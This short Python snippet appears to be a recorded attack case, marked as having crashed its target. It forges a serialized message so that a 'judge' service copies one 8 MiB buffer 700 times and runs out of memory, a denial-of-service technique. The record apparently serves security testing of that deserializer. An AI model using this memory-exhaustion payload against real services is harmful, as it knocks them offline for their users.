"""Tries to have the judge copy one buffer of 8 MiB seven hundred times."""
# ends: crashed
# from: level 1
# with: forging

ONE = '{"$":"t","v":0}'


def f(x):
    _, number = nonce()
    send(f'{{"v":{{"$":"dict","v":[["number",{number}],["value",[{",".join([ONE] * 700)}]],["seen",{{"$":"dict","v":[]}}]]}},"b":[["uint8",[8388608]]]}}'.encode(), bytes(8 << 20))
